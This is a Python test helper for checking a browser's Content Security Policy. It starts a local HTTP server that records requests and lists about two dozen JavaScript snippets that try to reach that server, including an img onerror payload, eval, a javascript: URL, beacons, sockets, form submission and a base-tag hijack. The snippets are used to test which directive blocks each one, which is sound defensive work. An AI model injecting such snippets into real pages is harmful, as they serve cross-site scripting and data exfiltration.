"""A host that nobody named, and the ways in which a page could be made to tell it something."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Self

_PATIENCE = 20_000  # milliseconds

# What is at hand where something is smuggled in; LEAK is a text that tells ELSEWHERE something.
_AT_HAND = """
const { body, head } = document;
const LEAK = `fetch("${ELSEWHERE}")`;
const add = (name, properties, place = body) =>
  place.append(Object.assign(document.createElement(name), properties));
"""
WAYS = {
    "a script": "add('script', { src: ELSEWHERE })",
    "a script in the page": "add('script', { text: LEAK })",
    "a module": "import(`${ELSEWHERE}.js`).catch(() => 0)",
    "text that is run": "eval(LEAK)",
    "markup": "body.innerHTML = `<img src=x onerror='${LEAK}'>`",
    "an attribute": "body.setAttribute('onclick', LEAK); body.click()",
    "an address that is run": "location.href = `javascript:${LEAK}`",
    "a worker": "new Worker(URL.createObjectURL(new Blob([LEAK])))",
    "an image": "new Image().src = ELSEWHERE",
    "a sound": "new Audio(ELSEWHERE).load()",
    "a font": "new FontFace('f', `url(${ELSEWHERE})`).load().catch(() => 0)",
    "a style sheet": "add('link', { rel: 'stylesheet', href: `${ELSEWHERE}.css` })",
    "a style in the page": "add('style', { textContent: `body { background: url(${ELSEWHERE}) }` })",
    "a request": "fetch(ELSEWHERE).catch(() => 0)",
    "a beacon": "navigator.sendBeacon(ELSEWHERE, 'canary')",
    "a ping": "add('a', { href: '#here', ping: ELSEWHERE, id: 'a', onclick: (event) =>"
    " event.stopPropagation() }); body.querySelector('#a').click()",
    "a socket": "new WebSocket(ELSEWHERE.replace('http', 'ws'))",
    "a stream": "new EventSource(`${ELSEWHERE}.txt`)",
    "a prefetch": "add('link', { rel: 'prefetch', href: ELSEWHERE }, head)",
    "a frame": "add('iframe', { src: ELSEWHERE })",
    "a plug-in": "add('embed', { src: ELSEWHERE })",
    "a form": "add('form', { action: ELSEWHERE, id: 'f' }); body.querySelector('#f').submit()",
    "a base": "add('base', { href: ELSEWHERE }, head); fetch('canary').catch(() => 0)",
}


class Elsewhere:
    """Starts when it is entered. `asked` are the requests that have reached it."""

    def __init__(self) -> None:
        self.asked: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(this) -> None:  # noqa: N805
                self.asked.append(f"{this.command} {this.path}")
                this.send_response(200)
                this.send_header("Access-Control-Allow-Origin", "*")
                this.send_header("Content-Type", _kind(this.path))
                this.send_header("Content-Length", "0")
                this.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815

            def log_message(this, format: str, *args: object) -> None:  # noqa: A002, N805
                """Quiet."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    def __enter__(self) -> Self:
        threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_port}"


def smuggled(what: str) -> str:
    """JavaScript that does it, where ELSEWHERE is an address."""
    return f"{_AT_HAND} {WAYS[what]}"


def refusal(what: str) -> str:
    """A function of that address that tries it, and answers by what directive it was refused;
    nothing if it wasn't.
    """
    return f"""async (ELSEWHERE) => {{
      const told = new Promise((tell) => {{
        const heard = (event) => tell(event.effectiveDirective);
        document.addEventListener("securitypolicyviolation", heard, {{ once: true }});
        setTimeout(tell, {_PATIENCE});
      }});
      try {{ {smuggled(what)} }} catch {{}}
      return await told;
    }}"""


def _kind(path: str) -> str:
    """A browser runs no script, and takes no style, that is called something else."""
    endings = {".js": "text/javascript", ".css": "text/css", ".txt": "text/event-stream"}
    return next((kind for end, kind in endings.items() if path.endswith(end)), "text/html")
